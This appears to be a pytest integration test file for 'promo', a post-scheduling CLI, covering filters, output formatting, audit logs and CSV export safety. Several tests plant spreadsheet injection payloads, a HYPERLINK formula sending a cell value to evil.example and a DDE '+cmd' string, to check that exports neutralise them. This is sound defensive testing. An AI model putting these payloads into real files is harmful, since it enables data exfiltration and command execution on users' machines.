"""What people read from `promo` and what they type into it: filters with a typo are usage
errors, values print as words, CSV is safe to open in a spreadsheet, the audit trail and the
users are listed, every action is attributed without refusing the operator, and the demo
loads once."""

from __future__ import annotations

import csv
import datetime as dt
import getpass
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import httpx
import pytest
import time_machine

from scheduler import cli, views, web
from scheduler.config import load_settings
from scheduler.models import HistoryEntry, Post, PostStatus
from scheduler.storage.db import Database
from tests.helpers import image_bytes
from tests.integration import test_cli

base_env = test_cli.base_env
promo = test_cli.promo  # the fixture: run `promo ARGS` in-process in tmp_path
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def db() -> Database:
    return Database(load_settings().database_url)


def new_post(promo, *args: str) -> dict:  # type: ignore[no-untyped-def]
    code, out, err = promo("post", "new", "--channel", "outbox", "--format", "json", *args)
    assert code == 0, err
    return json.loads(out)[0]


def csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "CSV starts with a UTF-8 byte order mark"
    return list(csv.DictReader(io.StringIO(text[1:])))


def platform_answered_a_formula(post_id: int) -> None:
    """An attempt whose remote_url and error came back from a platform as spreadsheet formulas."""
    with db().session() as session:
        post = session.get(Post, post_id)
        assert post is not None
        session.add(HistoryEntry(post_id=post.id, channel_id=post.channel_id, action="attempt",
                                 from_status="publishing", to_status="failed", outcome="rejected",
                                 remote_url=FORMULA, error="+cmd|' /C calc'!A0", actor="system"))


# --- 8.4: a typo in a filter is a usage error naming the valid values ---------------------------

@pytest.mark.parametrize("args, names", [
    (("history", "--status", "bogus"), ("'bogus'", "published", "rate_limited")),
    (("history", "--channel", "nope"), ("'nope'", "outbox, x_kota")),
    (("post", "list", "--status", "scheduled,bogus"), ("'bogus'", "pending_approval", "needs_review")),
    (("post", "list", "--channel", "nope"), ("'nope'", "outbox, x_kota")),
])
def test_a_filter_with_a_typo_exits_2_naming_the_valid_values(promo, args, names) -> None:
    code, out, err = promo(*args)
    assert code == 2 and "(none)" not in out
    for name in names:
        assert name in err


def test_the_parser_knows_every_status_and_outcome() -> None:
    assert set(cli.POST_STATUSES) == {s.value for s in PostStatus}
    assert cli.OUTCOMES == views.OUTCOMES


def test_a_filter_spelled_right_still_works(promo) -> None:
    new_post(promo, "--text", "Halo", "--now")
    code, out, _ = promo("post", "list", "--status", "scheduled", "--channel", "OUTBOX", "--format", "json")
    assert code == 0 and len(json.loads(out)) == 1


# --- 8.5: output people read --------------------------------------------------------------------

def test_records_list_prints_words_not_python(promo) -> None:
    assert promo("import", "umkm", "umkm.csv")[0] == 0
    assert promo("import", "products", "products.csv")[0] == 0
    code, out, _ = promo("records", "list", "umkm")
    assert code == 0 and " yes" in out and "True" not in out
    (Path.cwd() / "p2.csv").write_text("id,umkm_id,name,price,tags,curation\n"
                                       "p2,u1,Amplang Pedas,30000,oleholeh;kuliner,approved\n")
    assert promo("import", "products", "p2.csv")[0] == 0
    code, out, _ = promo("records", "list", "products")
    assert "oleholeh, kuliner" in out and "['" not in out and "True" not in out
    code, out, _ = promo("records", "list", "products", "--format", "json")
    assert json.loads(out)[1]["tags"] == ["oleholeh", "kuliner"]  # JSON keeps its types


def test_post_list_limit_gives_the_newest_first(promo) -> None:
    with time_machine.travel("2023-10-25 02:00:00+00:00", tick=False):
        ids = [new_post(promo, "--text", f"Promo {day}", "--at", f"2023-10-{day} 09:00")["id"] for day in (26, 27, 28)]
        code, out, _ = promo("post", "list", "--limit", "2", "--format", "json")
    assert [r["id"] for r in json.loads(out)] == [ids[2], ids[1]]
    assert "newest" in promo("post", "list", "--help")[1]


def test_a_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    env = {"PATH": os.environ.get("PATH", ""), **base_env(tmp_path)}

    def run(*args: str) -> None:
        subprocess.run([sys.executable, "-m", "scheduler.cli", *args], cwd=tmp_path, env=env, check=True,
                       capture_output=True, timeout=60)

    run("db", "upgrade")
    (tmp_path / "u.csv").write_text("id,name,city,curated\nu1,Amplang Kakak,Balikpapan,ya\n")
    (tmp_path / "p.csv").write_text("id,umkm_id,name,description,price,curation\n" + "".join(
        f"p{n},u1,Produk {n},{'Kerupuk renyah khas Balikpapan. ' * 8},25000,approved\n" for n in range(800)))
    run("import", "umkm", "u.csv")
    run("import", "products", "p.csv")
    # like `promo records list products --format json | head -c 100`: far more than a pipe holds
    with subprocess.Popen([sys.executable, "-m", "scheduler.cli", "records", "list", "products", "--format", "json"],
                          cwd=tmp_path, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as proc:
        assert proc.stdout is not None and proc.stderr is not None
        assert proc.stdout.read(100).startswith(b"[")
        proc.stdout.close()
        err = proc.stderr.read().decode()
        proc.wait(60)
    assert "Traceback" not in err and "BrokenPipe" not in err and err == ""


def test_db_upgrade_says_what_it_did(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    for key in [k for k in os.environ if k.startswith("PROMO_")]:
        monkeypatch.delenv(key)
    monkeypatch.setenv("PROMO_DATABASE_URL", f"sqlite:///{tmp_path}/neu.db")
    monkeypatch.chdir(tmp_path)
    from alembic.script import ScriptDirectory

    from scheduler.shipped import migrations_dir

    head = ScriptDirectory(str(migrations_dir())).get_current_head()  # the newest migration, whichever it is
    assert cli.main(["db", "upgrade"]) == 0
    assert f"created the database {tmp_path}/neu.db at revision {head}" in capsys.readouterr().out
    assert cli.main(["db", "upgrade"]) == 0
    out = capsys.readouterr().out
    assert f"already at revision {head}" in out and "created" not in out


def test_history_keeps_error_for_errors_and_notes_the_reasons(promo) -> None:
    post = new_post(promo, "--text", "Halo", "--now")
    platform_answered_a_formula(post["id"])
    code, out, _ = promo("history", "--all", "--format", "json")
    created, attempt = json.loads(out)
    assert (created["error"], created["note"]) == (None, "created")
    assert attempt["error"] == "+cmd|' /C calc'!A0" and attempt["note"] is None
    code, out, _ = promo("history", "--all")
    header = out.splitlines()[0]
    assert "REASON" in header and "ERROR" not in header and "created" in out


def test_a_reschedule_is_recorded_in_local_time(promo) -> None:
    with time_machine.travel("2023-10-25 02:00:00+00:00", tick=False):
        post = new_post(promo, "--text", "Halo", "--at", "2023-10-25 19:00")
        assert promo("post", "reschedule", str(post["id"]), "--at", "2023-10-26 09:00")[0] == 0
    code, out, _ = promo("post", "show", str(post["id"]), "--format", "json")
    assert json.loads(out)["history"][-1]["note"] == "rescheduled to 2023-10-26T09:00:00+08:00"


def test_post_show_says_when_the_next_try_is_and_shows_the_image_and_its_alt(promo, tmp_path: Path) -> None:
    (tmp_path / "amplang.png").write_bytes(image_bytes())
    post = new_post(promo, "--text", "Halo", "--now", "--image", "amplang.png", "--alt", "Amplang di piring")
    with db().session() as session:
        row = session.get(Post, post["id"])
        assert row is not None
        row.status, row.next_attempt_at = "retry_wait", dt.datetime(2023, 10, 25, 11, 30, tzinfo=dt.UTC)
    code, out, _ = promo("post", "show", str(post["id"]))
    assert "next_attempt_at: 2023-10-25T19:30:00+08:00" in out
    assert "image_alt: Amplang di piring" in out and out.split("image:")[1].splitlines()[0].endswith(".png")
    shown = json.loads(promo("post", "show", str(post["id"]), "--format", "json")[1])
    assert shown["next_attempt_at"] == "2023-10-25T19:30:00+08:00" and shown["image_alt"] == "Amplang di piring"


# --- 9.16: CSV a spreadsheet will not run ---------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    for value in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert views.csv_cell(value) == "'" + value
    assert views.csv_cell("Amplang = enak") == "Amplang = enak" and views.csv_cell(None) == ""


def test_history_csv_neutralises_what_a_platform_returned(promo) -> None:
    post = new_post(promo, "--text", "Halo", "--now")
    platform_answered_a_formula(post["id"])
    code, out, _ = promo("history", "--format", "csv")
    [row] = csv_rows(out)
    assert row["remote_url"] == "'" + FORMULA and row["error"] == "'+cmd|' /C calc'!A0"
    assert row["text"] == "Halo"


def test_every_cli_csv_export_is_neutralised(promo) -> None:
    (Path.cwd() / "u.csv").write_text("id,name,owner,city,curated\nu2,=1+2 Amplang,@siti,Balikpapan,ya\n")
    assert promo("import", "umkm", "u.csv")[0] == 0
    [row] = csv_rows(promo("records", "list", "umkm", "--format", "csv")[1])
    assert (row["id"], row["name"], row["owner"], row["curated"]) == ("u2", "'=1+2 Amplang", "'@siti", "yes")
    assert promo("--as", "@evil", "users", "add", "=rina", "--role", "viewer", "--no-password")[0] == 0
    audit = csv_rows(promo("audit", "--format", "csv")[1])
    assert audit[-1]["actor"] == "'@evil" and audit[-1]["entity_id"] == "'=rina"
    [user] = csv_rows(promo("users", "list", "--format", "csv")[1])
    assert user["name"] == "'=rina"


async def test_dashboard_csv_neutralises_what_a_platform_returned(promo) -> None:
    post = new_post(promo, "--text", "Halo", "--now")
    platform_answered_a_formula(post["id"])
    settings = load_settings()
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    from tests.webapp import bearer

    token = bearer(db())
    runner = await web.start(settings, db(), "127.0.0.1", port)
    try:
        async with httpx.AsyncClient(trust_env=False) as client:
            answer = await client.get(f"http://127.0.0.1:{port}/api/v1/history", params={"format": "csv"},
                                      headers=token)
    finally:
        await runner.cleanup()
    assert answer.status_code == 200
    [row] = csv_rows(answer.content.decode("utf-8"))
    assert row["remote_url"] == "'" + FORMULA and row["error"] == "'+cmd|' /C calc'!A0"


# --- 8.9: users list and audit ----------------------------------------------------------------------

def test_users_list_and_the_audit_trail(promo) -> None:
    assert promo("import", "umkm", "umkm.csv")[0] == 0
    assert promo("--as", "kepala", "users", "add", "rina", "--role", "approver", "--no-password")[0] == 0
    code, out, _ = promo("users", "list", "--format", "json")
    assert [(u["name"], u["role"]) for u in json.loads(out)] == [("rina", "approver")]
    assert "rina" in promo("users", "list")[1]

    code, out, _ = promo("audit", "--format", "json")
    assert code == 0
    rows = json.loads(out)
    assert [(r["action"], r["entity"], r["entity_id"]) for r in rows] == [
        ("import", "umkm", "umkm.csv"), ("user_set", "user", "rina")]
    assert rows[1]["actor"] == "kepala" and rows[1]["detail"] == {"role": "approver"}
    assert [r["entity_id"] for r in json.loads(promo("audit", "--actor", "kepala", "--format", "json")[1])] == ["rina"]
    assert [r["entity"] for r in json.loads(promo("audit", "--entity", "umkm", "--format", "json")[1])] == ["umkm"]
    assert json.loads(promo("audit", "--until", "2000-01-01", "--format", "json")[1]) == []
    today = dt.date.today().isoformat()
    assert len(json.loads(promo("audit", "--since", today, "--format", "json")[1])) == 2
    code, out, _ = promo("audit")
    assert code == 0 and "kepala" in out and '{"role": "approver"}' in out
    code, _, err = promo("audit", "--since", "kemarin")
    assert code == 2 and "kemarin" in err
    code, _, err = promo("audit", "--entity", "produk")
    assert code == 2 and "product" in err


# --- 9.18: the CLI acts with full rights and records who acted ------------------------------------

def test_whoever_runs_the_command_acts_and_is_recorded(promo, monkeypatch: pytest.MonkeyPatch) -> None:
    assert promo("users", "add", "budi", "--role", "viewer", "--no-password")[0] == 0
    a, b, c = (new_post(promo, "--text", f"Promo {n}", "--at", "2030-01-01 09:00")["id"] for n in range(3))
    # A viewer by role: the CLI is the operator's tool, so it acts, and records who.
    code, out, err = promo("--as", "budi", "post", "cancel", str(a))
    assert code == 0 and "cancelled" in out, err
    # No --as, no PROMO_USER, no $USER: the login name, never refused as "system".
    for key in ("PROMO_USER", "USER", "LOGNAME", "LNAME", "USERNAME"):
        monkeypatch.delenv(key, raising=False)
    login = getpass.getuser()
    code, out, err = promo("post", "cancel", str(b))
    assert code == 0, err
    monkeypatch.setenv("PROMO_USER", "kepala")
    assert promo("post", "cancel", str(c))[0] == 0
    actors = {}
    for pid in (a, b, c):
        shown = json.loads(promo("post", "show", str(pid), "--format", "json")[1])
        actors[pid] = shown["history"][-1]["actor"]
    assert actors == {a: "budi", b: login, c: "kepala"} and login != "system"


# --- 8.1: the demo loads once ---------------------------------------------------------------------------

def test_running_the_demo_again_queues_nothing_and_says_so(promo) -> None:
    code, first, err = promo("demo")
    assert code == 0, err
    queued = [line for line in first.splitlines() if line.startswith("queued post")]
    assert len(queued) == 6  # three posts on each of the two channels
    before = json.loads(promo("post", "list", "--format", "json")[1])
    code, again, err = promo("demo")
    assert code == 0, err
    assert "demo data already loaded; its 6 demo posts are 6 scheduled" in again and "queued post" not in again
    assert json.loads(promo("post", "list", "--format", "json")[1]) == before


# --- 8.8: the parser imports nothing heavy ------------------------------------------------------------

def test_help_and_usage_errors_do_not_import_the_heavy_libraries(tmp_path: Path) -> None:
    probe = ("import sys\nfrom scheduler.cli import main\n"
             "for argv in (['--help'], ['post', 'list', '--help'], ['history', '--status', 'bogus']):\n"
             "    try:\n        main(argv)\n    except SystemExit:\n        pass\n"
             "heavy = ('sqlalchemy', 'alembic', 'apscheduler', 'httpx', 'aiohttp', 'jinja2', 'PIL', 'asyncio')\n"
             "print('HEAVY:' + ','.join(m for m in heavy if m in sys.modules))\n")
    done = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True, timeout=60,
                          env={"PATH": os.environ.get("PATH", "")})
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-1] == "HEAVY:"


# --- read-only commands load no HTTP client, templates or translations -------------------------------

def test_history_post_list_and_status_load_no_http_client_templates_or_unused_adapters(tmp_path: Path) -> None:
    """`promo history` is typed to look something up: it reads (and checks) the settings, which
    loads the adapters of the configured channels, and the database, and nothing else: no httpx,
    no OAuth library, no cipher, no Jinja2/Babel, no adapter of a platform no channel uses."""
    env = {"PATH": os.environ.get("PATH", ""), "PROMO_DATABASE_URL": f"sqlite:///{tmp_path}/promo.db",
           "PROMO_CHANNELS": "outbox,fb,tg,xk", "PROMO_CHANNEL_OUTBOX_PLATFORM": "outbox",
           "PROMO_CHANNEL_FB_PLATFORM": "facebook", "PROMO_CHANNEL_FB_PAGE_ID": "104857600123",
           "PROMO_CHANNEL_FB_ACCESS_TOKEN": "EAABtoken", "PROMO_CHANNEL_TG_PLATFORM": "telegram",
           "PROMO_CHANNEL_TG_BOT_TOKEN": "123456789:abc", "PROMO_CHANNEL_TG_CHAT_ID": "@umkm",
           "PROMO_CHANNEL_XK_PLATFORM": "x", "PROMO_CHANNEL_XK_ACCESS_TOKEN": "xtoken"}
    upgrade = subprocess.run([sys.executable, "-m", "scheduler.cli", "db", "upgrade"], cwd=tmp_path,
                             capture_output=True, text=True, timeout=120, env=env)
    assert upgrade.returncode == 0, upgrade.stderr
    probe = ("import sys\nfrom scheduler.cli import main\n"
             "codes = [main(argv) for argv in (['history'], ['post', 'list'], ['status'])]\n"
             "heavy = ('httpx', 'authlib', 'cryptography', 'jinja2', 'babel', 'PIL', 'dotenv')\n"
             "unused = ('webhook', 'instagram', 'threads', 'mastodon', 'bluesky', 'linkedin', 'discord')\n"
             "print('CODES:' + ','.join(map(str, codes)))\n"
             "print('HEAVY:' + ','.join(m for m in heavy if m in sys.modules) + ';'\n"
             "      + ','.join(m for m in unused if 'scheduler.platforms.' + m in sys.modules)\n"
             "      + ';' + str('scheduler.platforms.telegram' in sys.modules))\n")
    done = subprocess.run([sys.executable, "-c", probe], cwd=tmp_path, capture_output=True, text=True, timeout=120,
                          env=env)
    assert done.returncode == 0, done.stderr
    assert "(none)" in done.stdout  # the history page, empty
    assert done.stdout.splitlines()[-2] == "CODES:0,0,0"
    assert done.stdout.splitlines()[-1] == "HEAVY:;;True"  # the configured channels' adapters were checked
